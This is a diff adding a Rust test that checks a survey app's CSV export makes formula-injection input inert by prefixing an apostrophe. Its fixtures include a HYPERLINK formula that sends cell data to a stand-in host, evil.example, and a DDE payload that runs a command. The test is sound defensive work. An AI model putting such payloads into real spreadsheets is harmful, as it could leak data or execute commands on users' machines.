@@ -488,3 +488,75 @@ async fn with_voice_downloads_each_note_and_the_export_names_the_file() {
         "same respondent id"
     );
 }
+
+/// What a member types or names can hold a spreadsheet formula; in the CSV it arrives inert
+/// (a leading `'`), while numbers stay numbers and Khmer text stays as it was.
+#[tokio::test]
+async fn csv_cells_that_a_spreadsheet_would_run_arrive_inert() {
+    let (dir, store) = fixture().await;
+    let hostile = [
+        r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+        "+cmd|' /C calc'!A0",
+        "@SUM(1)",
+        "-2+3",
+    ];
+    for (i, text) in hostile.iter().enumerate() {
+        let member = 9_100 + i as i64;
+        step(
+            &store,
+            member,
+            vec![
+                Effect::SetLang(Lang::En),
+                Effect::GiveConsent,
+                Effect::SetProfile(ProfileField::Constituency(Constituency::Workers)),
+                Effect::SetProfile(ProfileField::Organisation(OrgChoice::Named(
+                    "=1+1 Union".into(),
+                ))),
+                Effect::Rate {
+                    code: code("P2.1"),
+                    rating: Rating::new(3).unwrap(),
+                },
+            ],
+            at(3, 1),
+        )
+        .await;
+        step(
+            &store,
+            member,
+            vec![Effect::Comment {
+                code: code("P2.1"),
+                comment: Comment::Text(CommentText::parse(text).unwrap()),
+            }],
+            at(3, 2),
+        )
+        .await;
+    }
+    let rows = csv_rows(&export(&store, &dir, ExportFormat::Csv, ExportFilter::default()).await);
+    let column = |name: &str| {
+        dwcp_feedback::export::COLUMNS
+            .iter()
+            .position(|c| *c == name)
+            .unwrap()
+    };
+    let (comment, organisation, rating) =
+        (column("comment"), column("organisation"), column("rating"));
+    for text in hostile {
+        let row = rows
+            .iter()
+            .find(|r| r[comment].ends_with(text))
+            .unwrap_or_else(|| panic!("{text} is in the export"));
+        assert_eq!(&row[comment], format!("'{text}"), "inert");
+        assert_eq!(&row[organisation], "'=1+1 Union");
+        assert_eq!(&row[rating], "3", "numbers stay numbers");
+    }
+    assert!(
+        rows.iter().any(|r| r[comment] == *KHMER_COMMENT),
+        "Khmer text is untouched"
+    );
+    // Nothing in any cell starts a formula any more.
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
+        }
+    }
+}
